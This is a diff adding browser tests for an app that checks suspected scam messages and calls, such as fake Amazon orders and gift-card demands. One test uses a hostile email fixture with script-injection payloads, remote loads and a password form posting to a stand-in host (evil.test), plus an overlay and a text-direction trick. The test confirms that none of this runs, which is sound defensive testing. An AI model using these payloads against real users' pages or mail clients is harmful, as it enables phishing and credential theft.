@@ -1,0 +1,219 @@
+/** What a person does in the app, done in a real browser with the built files. */
+import assert from 'node:assert/strict';
+import { after, before, suite, test } from 'node:test';
+import type { Page } from 'playwright-core';
+import { checkSample, checkText, openApp, type App, type Visit } from './app.ts';
+import { skip } from './browser.ts';
+
+const ORDER =
+  'Amazon: order 113-7720941-5538216 for $1,149.99 ships today. Not you? Call (888) 555-0142 or cancel at arnazon-refunds.example/cancel';
+const PAYMENT =
+  'Amazon: There is a problem with the payment for order 113-4471902-8830145. Please update your payment method in Your Account.';
+
+async function verdictOf(page: Page): Promise<string> {
+  return (await page.locator('#verdict').textContent()) ?? '';
+}
+
+suite('the app', { skip }, () => {
+  let app: App;
+  before(async () => {
+    app = await openApp();
+  });
+  after(() => app.close());
+
+  /** A visit that ends without a problem. */
+  async function visiting(
+    what: (visit: Visit) => Promise<void>,
+    options?: Parameters<App['visit']>[0],
+  ): Promise<void> {
+    const visit = await app.visit(options);
+    try {
+      await what(visit);
+      assert.deepEqual(visit.problems, []);
+    } finally {
+      await visit.close();
+    }
+  }
+
+  test('a pasted text: what we see, then the answer, announced first', () =>
+    visiting(async ({ page }) => {
+      await page.locator('#t').fill(ORDER);
+      const seen = page.locator('.seen');
+      await seen.getByText('It says it is from Amazon').waitFor();
+      assert.match((await seen.textContent()) ?? '', /1 link and 1 phone number/u);
+      await page.getByRole('button', { name: 'Check it' }).click();
+      await page.locator('#verdict').waitFor();
+      assert.equal(await verdictOf(page), 'This is not from Amazon.');
+      assert.match(await page.title(), /^This is not from Amazon\./u);
+      await page.locator('#verdict:focus').waitFor();
+      assert.equal(await page.locator('.item a, .item img').count(), 0, 'nothing in it is live');
+      assert.equal(await page.locator('.item .off').count(), 2);
+      assert.match((await page.locator('.item').textContent()) ?? '', /Goes to arnazon-refunds/u);
+    }));
+
+  test('an empty letterbox says what to do, and nothing is lost on the way', () =>
+    visiting(
+      async ({ page }) => {
+        await page.getByRole('button', { name: 'Check it' }).click();
+        await page.getByText('Nothing to check yet.').waitFor();
+        await page.locator('#t').fill('half a thought');
+        await page.getByRole('link', { name: 'Protect' }).click();
+        await page.getByRole('link', { name: 'Check', exact: true }).click();
+        assert.equal(await page.locator('#t').inputValue(), 'half a thought');
+      },
+      { viewport: { width: 1280, height: 800 } },
+    ));
+
+  test('the guided check: “not there” makes it an impostor, “there” never makes it genuine', () =>
+    visiting(async ({ page }) => {
+      await checkText(page, PAYMENT);
+      assert.match(await verdictOf(page), /^Nothing proves who sent this\./u);
+      await page.getByRole('link', { name: 'Check it with me' }).click();
+      await page.getByText('113-4471902-8830145').waitFor();
+      await page.getByRole('button', { name: /^No, it is not there/u }).click();
+      await page.locator('#verdict').waitFor();
+      assert.equal(await verdictOf(page), 'This is not from Amazon.');
+      await page.getByText('Changed by what you found').waitFor();
+
+      await page.getByRole('button', { name: 'I tapped the wrong one' }).click();
+      await page.getByText('Nothing proves who sent this.').waitFor();
+      await page.getByRole('link', { name: 'Check it with me' }).click();
+      await page.getByRole('button', { name: 'Yes, it is there' }).click();
+      await page.getByRole('button', { name: 'Yes, the same problem' }).click();
+      await page.getByText('Your own account says the same.').waitFor();
+      assert.match(await verdictOf(page), /^Nothing proves who sent this\./u);
+    }));
+
+  test('a mail as a file: five pegs, and a genuine one is called so', () =>
+    visiting(async ({ page }) => {
+      await checkSample(page, 'order-confirmation.eml');
+      assert.match(await verdictOf(page), /really came from Amazon/u);
+      assert.match((await page.locator('.evidence').textContent()) ?? '', /5 of 5/u);
+      await checkSample(page, 'prime-renewal.eml');
+      assert.equal(await verdictOf(page), 'This is not from Amazon.');
+      await page.locator('.rule').first().waitFor();
+      await page.getByText('Report it').first().waitFor();
+    }));
+
+  test('a file that cannot be read is named, and what was typed stays', () =>
+    visiting(async ({ page }) => {
+      await page.locator('#t').fill('my words');
+      await page
+        .locator('input[type=file]')
+        .setInputFiles({ name: 'photo.png', mimeType: 'image/png', buffer: Buffer.from('x') });
+      await page.getByText('We can’t read this kind of file yet (photo.png).').waitFor();
+      assert.equal(await page.locator('#t').inputValue(), 'my words');
+    }));
+
+  test('on a call: an opener warns, a want means hang up, with the focus on the words', () =>
+    visiting(async ({ page }) => {
+      await page.goto(`${app.origin}/#/call`);
+      await page.getByRole('button', { name: 'An order I didn’t make' }).click();
+      await page.getByText('Careful. Scams often begin like this.').waitFor();
+      await page.getByRole('button', { name: 'Asked for a code' }).click();
+      const dialog = page.getByRole('alertdialog', { name: 'Hang up.' });
+      await dialog.waitFor();
+      await page.locator('#hh:focus').waitFor();
+      await page.getByText('Nobody honest asks you to read it out.').waitFor();
+      await dialog.getByRole('button', { name: 'Back to the tiles' }).click();
+      await page.getByText('Tell them nothing yet.').waitFor();
+    }));
+
+  test('on a call: typed notes are judged as they come', () =>
+    visiting(async ({ page }) => {
+      await page.goto(`${app.origin}/#/call`);
+      await page
+        .locator('#notes')
+        .fill('They say I must buy gift cards to settle it and read them the numbers on the back.');
+      await page.getByRole('alertdialog', { name: 'Hang up.' }).waitFor();
+    }));
+
+  test('recovery: what happened, then the clock; ticks survive a reload', () =>
+    visiting(async ({ page }) => {
+      await page.goto(`${app.origin}/#/recover`);
+      await page.getByRole('button', { name: 'Show what to do' }).click();
+      await page.getByText('Tap at least one thing that happened.').waitFor();
+      await page.getByLabel('You gave someone a code').check();
+      await page.getByLabel('You let them into your device').check();
+      await page.getByRole('button', { name: 'Show what to do' }).click();
+      await page.getByText('Use another device for this.').waitFor();
+      const first = page.locator('.step').first();
+      assert.ok(await first.evaluate((step) => step.classList.contains('now')));
+      await first.getByRole('checkbox').check();
+      await page.getByText(/^1 of \d+ done$/u).waitFor();
+      await page.reload();
+      await page.getByText(/^1 of \d+ done$/u).waitFor();
+      const [file] = await Promise.all([
+        page.waitForEvent('download'),
+        page.getByRole('button', { name: 'Put it in my calendar' }).click(),
+      ]);
+      assert.equal(file.suggestedFilename(), 'peephole.ics');
+    }));
+
+  test('protect: what is ticked is kept, and can be forgotten', () =>
+    visiting(async ({ page }) => {
+      await page.goto(`${app.origin}/#/protect`);
+      await page.locator('.todo .tick').first().check();
+      await page.reload();
+      assert.ok(await page.locator('.todo .tick').first().isChecked());
+      await page.goto(`${app.origin}/#/settings`);
+      await page.getByRole('button', { name: 'Forget all of it' }).click();
+      await page.goto(`${app.origin}/#/protect`);
+      await page.locator('.todo .tick').first().waitFor();
+      assert.equal(await page.locator('.todo .tick').first().isChecked(), false);
+    }));
+
+  test('German by the browser, English by choice, and an open answer is told again', () =>
+    visiting(
+      async ({ page }) => {
+        await page.locator('#t').fill(PAYMENT);
+        await page.getByRole('button', { name: 'Prüfen' }).click();
+        await page.locator('#verdict').waitFor();
+        assert.equal(await page.locator('html').getAttribute('lang'), 'de');
+        const german = await verdictOf(page);
+        await page.goto(`${app.origin}/#/settings`);
+        await page.getByRole('button', { name: 'English' }).click();
+        await page.goto(`${app.origin}/#/answer`);
+        await page.getByText('Nothing proves who sent this.').waitFor();
+        assert.notEqual(await verdictOf(page), german);
+      },
+      { locale: 'de-DE' },
+    ));
+
+  test('a hostile mail is text: nothing of it runs, loads or covers the verdict', () =>
+    visiting(async ({ page }) => {
+      const mail = [
+        'From: "Amazon" <service@amaz0n-help.test>',
+        'To: you@home.example',
+        'Subject: <img src=x onerror=document.title="owned"> Your account',
+        'Message-ID: <1@amaz0n-help.test>',
+        'MIME-Version: 1.0',
+        'Content-Type: text/html; charset=utf-8',
+        '',
+        '<html><head><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/r">',
+        '<style>body{background:url(https://evil.test/css)} #verdict{display:none}</style></head><body>',
+        '<script>document.title="owned"</script><img src="https://evil.test/pixel.gif" onload="document.title=1">',
+        '<svg onload="document.title=2"><image href="https://evil.test/s.png"/></svg>',
+        '<div style="position:fixed;inset:0;background:green">Verified by Amazon</div>',
+        '<form action="https://evil.test/f"><input name="password"><button>Sign in</button></form>',
+        '<a href="javascript:document.title=3">Your account is locked. Verify it now</a>',
+        '<a href="data:text/html,x">open</a> \u202Eevil\u202C',
+        '</body></html>',
+      ].join('\r\n');
+      await page
+        .locator('input[type=file]')
+        .setInputFiles({ name: 'a.eml', mimeType: 'message/rfc822', buffer: Buffer.from(mail) });
+      await page.locator('#verdict').waitFor();
+      assert.match(await page.title(), /^This is not from Amazon\./u);
+      assert.ok(await page.locator('#verdict').isVisible());
+      assert.equal(
+        await page.locator('.item').locator('a,img,svg[onload],script,style,form,iframe').count(),
+        0,
+      );
+      const covered = await page.locator('#verdict').evaluate((title) => {
+        const { left, top } = title.getBoundingClientRect();
+        return document.elementFromPoint(left + 5, top + 5) !== title;
+      });
+      assert.equal(covered, false);
+    }));
+});
